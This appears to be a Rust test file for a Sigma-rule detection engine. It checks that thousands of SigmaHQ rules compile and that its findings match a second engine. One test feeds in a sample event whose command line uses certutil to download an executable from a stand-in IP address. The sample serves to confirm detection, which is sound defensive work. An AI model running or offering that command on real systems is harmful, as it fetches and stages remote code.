//! Rules that nobody here wrote, read from the folder named by `HYGIE_CONFORMANCE_DATA`.
//!
//! Without that folder the suite says what it skipped and passes. `sigma/rules` holds the rules of
//! SigmaHQ; each must be in force, and find what a foreign engine finds on events that are made
//! from the rules themselves. What labelled flows of others give is in `conformance/flows.rs`.
#![expect(clippy::unwrap_used, reason = "a test may stop at a surprise")]
#![expect(clippy::print_stdout, reason = "a skipped suite is said, not hidden")]
#![expect(clippy::disallowed_methods, reason = "foreign suites lie in files")]

#[path = "conformance/flows.rs"]
mod flows;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use watch::engine::{Detector, RuleSet, Settings};
use watch::limits::Limits;
use watch::sigma::{Document, Placeholders, Refused, Rule, read};
use watch::source::Mapping;

fn load(folder: &Path, documents: &mut Vec<Document>, refused: &mut Vec<Refused>) {
    let mut paths: Vec<PathBuf> = fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    paths.sort();
    for path in paths {
        if path.is_dir() {
            load(&path, documents, refused);
        } else if path.extension().is_some_and(|ending| ending == "yml") {
            let text = fs::read_to_string(&path).unwrap();
            let origin = path.display().to_string();
            let file = read(&origin, &text, &Placeholders::new(), &Limits::default());
            documents.extend(file.documents);
            refused.extend(file.refused);
        }
    }
}

/// The folder, or `None` after saying so.
fn rules() -> Option<PathBuf> {
    let folder = std::env::var_os("HYGIE_CONFORMANCE_DATA").map(PathBuf::from);
    let rules = folder.map(|folder| folder.join("sigma/rules"));
    let rules = rules.filter(|rules| rules.is_dir());
    if rules.is_none() {
        println!("skipped: no `sigma/rules` in the folder of HYGIE_CONFORMANCE_DATA");
    }
    rules
}

fn compile(folder: &Path) -> (Arc<RuleSet>, Vec<Refused>) {
    let (mut documents, mut refused) = (Vec::new(), Vec::new());
    load(folder, &mut documents, &mut refused);
    let mapping = Mapping::built_in().unwrap();
    let limits = Limits::default();
    let settings = Settings {
        mapping: &mapping,
        limits: &limits,
        fields: &[],
    };
    let compiled = RuleSet::compile(documents, settings);
    refused.extend(compiled.refused);
    (Arc::new(compiled.rules), refused)
}

#[test]
fn every_published_rule_is_in_force() {
    let Some(folder) = rules() else { return };
    let (rules, refused) = compile(&folder);
    println!(
        "rules {} refused {} predicates {} classes {}",
        rules.rules().len(),
        refused.len(),
        rules.predicates(),
        rules.classes()
    );
    for one in &refused {
        println!("refused {one}");
    }
    assert!(rules.rules().len() > 3_000);
    assert_eq!(refused, []);
    check_a_known_attack(&rules);
}

/// A download by a program that is made for certificates: found in each shape of the event.
fn check_a_known_attack(rules: &Arc<RuleSet>) {
    let data = r#""Image":"C:\\Windows\\System32\\certutil.exe","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://203.0.113.9/x.exe x.exe","User":"HOSPITAL\\u1""#;
    let channel = "Microsoft-Windows-Sysmon/Operational";
    let shapes = [
        format!(r#"{{"Channel":"{channel}","EventID":1,{data}}}"#),
        format!(
            r#"{{"Event":{{"System":{{"Channel":"{channel}","EventID":1}},"EventData":{{{data}}}}}}}"#
        ),
        format!(r#"{{"winlog":{{"channel":"{channel}","event_id":"1","event_data":{{{data}}}}}}}"#),
    ];
    let mut found = shapes.iter().map(|line| {
        let mut detector = Detector::new(Arc::clone(rules), &[9; 16]);
        let mut titles = Vec::new();
        detector.line("", line.as_bytes(), |hit| {
            titles.push(hit.rule().unwrap().title.clone());
        });
        titles
    });
    let first = found.next().unwrap();
    println!("certutil: {first:?}");
    assert!(first.len() > 1, "{first:?}");
    assert!(found.all(|other| other == first));
}

/// Where the foreign engine finds less, by a word in the rule, and why.
const EXPLAINED: &[(&str, &str)] = &[
    (
        "'|all'",
        "it wants each of several keywords to be a whole value",
    ),
    (
        "windash",
        "it takes only the plain dash of a rule for a dash",
    ),
    (
        "base64offset",
        "it keeps a character that the next byte decides too",
    ),
];

/// Events that are made from each rule, in two ways, and what each engine finds of the rules of the
/// same log source.
#[test]
fn a_foreign_engine_finds_the_same() {
    let Some(folder) = rules() else { return };
    let (rules, _) = compile(&folder);
    let collection = rsigma_parser::parse_sigma_directory(&folder).unwrap();
    let mut engine = rsigma_eval::Engine::new();
    engine.add_collection(&collection).unwrap();
    let mut detector = Detector::new(Arc::clone(&rules), &[5; 16]);
    let origins: BTreeMap<String, String> = rules
        .rules()
        .map(|rule| (name(rule), rule.origin.clone()))
        .collect();
    let (mut events, mut findings) = (0, 0);
    let mut explained: BTreeMap<&str, usize> = BTreeMap::new();
    let mut differences: Vec<String> = Vec::new();
    for rule in rules.rules() {
        for event in [made::first(rule), made::joined(rule)] {
            let (ours, theirs) = both(&mut detector, &engine, rule, &event);
            events += 1;
            findings += ours.len();
            for one in theirs.difference(&ours) {
                differences.push(format!("only there: {one} on {event}"));
            }
            for one in ours.difference(&theirs) {
                let text = fs::read_to_string(origins.get(one).unwrap()).unwrap();
                match EXPLAINED.iter().find(|(word, _)| text.contains(word)) {
                    Some((_, reason)) => *explained.entry(reason).or_default() += 1,
                    None => differences.push(format!("only here: {one} on {event}")),
                }
            }
        }
    }
    println!("events {events} findings {findings} explained {explained:?}");
    assert!(findings > 3_000);
    assert_eq!(differences, Vec::<String>::new());
}

fn name(rule: &Rule) -> String {
    rule.id.clone().unwrap_or_default() + " " + &rule.title
}

fn both(
    detector: &mut Detector,
    engine: &rsigma_eval::Engine,
    rule: &Rule,
    event: &serde_json::Value,
) -> (BTreeSet<String>, BTreeSet<String>) {
    let source = &rule.logsource;
    let parts = [&source.product, &source.category, &source.service];
    let parts: Vec<&str> = parts.into_iter().flatten().map(String::as_str).collect();
    let mut ours = BTreeSet::new();
    let mut known = BTreeSet::new();
    known.extend(
        detector
            .rules()
            .rules()
            .filter(|other| other.logsource == *source)
            .map(name),
    );
    let line = event.to_string();
    detector.line(&parts.join("."), line.as_bytes(), |hit| {
        ours.insert(name(hit.rule().unwrap()));
    });
    let theirs = engine.evaluate_with_logsource(
        &rsigma_eval::event::JsonEvent::borrow(event),
        &rsigma_parser::LogSource {
            product: source.product.clone(),
            category: source.category.clone(),
            service: source.service.clone(),
            ..rsigma_parser::LogSource::default()
        },
    );
    let theirs = theirs.into_iter().map(|one| {
        let header = one.header;
        header.rule_id.unwrap_or_default() + " " + &header.rule_title
    });
    let theirs: BTreeSet<String> = theirs.filter(|name| known.contains(name)).collect();
    ours.retain(|name| known.contains(name));
    (ours, theirs)
}

/// Events that are made from rules.
mod made {
    use std::collections::BTreeMap;

    use serde_json::Value;
    use watch::sigma::pattern::Token;
    use watch::sigma::{Detection, Item, Rule, Test};

    /// Each field has the first value that the rule asks for.
    pub(super) fn first(rule: &Rule) -> Value {
        event(rule, |values| values.first().cloned())
    }

    /// Each field has all that the rule asks for, one behind the other.
    pub(super) fn joined(rule: &Rule) -> Value {
        event(rule, |values| Some(values.join("")))
    }

    fn event(rule: &Rule, value: impl Fn(&[String]) -> Option<String>) -> Value {
        let mut fields: BTreeMap<String, Vec<String>> = BTreeMap::new();
        for (name, detection) in &rule.detection {
            if !name.starts_with("filter") {
                add(detection, &mut fields);
            }
        }
        let pairs = fields.into_iter();
        let pairs = pairs.filter_map(|(field, values)| Some((field, Value::from(value(&values)?))));
        Value::Object(pairs.collect())
    }

    fn add(detection: &Detection, fields: &mut BTreeMap<String, Vec<String>>) {
        match detection {
            Detection::All(parts) => parts.iter().for_each(|part| add(part, fields)),
            Detection::Any(parts) => parts.iter().take(1).for_each(|part| add(part, fields)),
            Detection::Item(item) => add_item(item, fields),
        }
    }

    fn add_item(item: &Item, fields: &mut BTreeMap<String, Vec<String>>) {
        let wanted = if item.all { item.tests.len() } else { 1 };
        let values = item.tests.iter().take(wanted).filter_map(value);
        let field = item.field.clone().unwrap_or_else(|| "message".to_owned());
        let text: Vec<String> = values.collect();
        if !text.is_empty() {
            fields.entry(field).or_default().push(text.join(""));
        }
    }

    fn value(test: &Test) -> Option<String> {
        Some(match test {
            Test::Text { pattern, .. } => {
                let parts = pattern.tokens().iter().map(|token| match token {
                    Token::Text(bytes) => String::from_utf8_lossy(bytes).into_owned(),
                    Token::Many => String::new(),
                    Token::One => "x".to_owned(),
                });
                parts.collect()
            }
            Test::Regex(_) | Test::Exists(true) => "x".to_owned(),
            Test::Network(_) => "10.1.2.3".to_owned(),
            Test::Compare(_, bound) | Test::Time(_, _, bound) => bound.to_string(),
            Test::Exists(false) | Test::Null | Test::Field { .. } => return None,
        })
    }
}
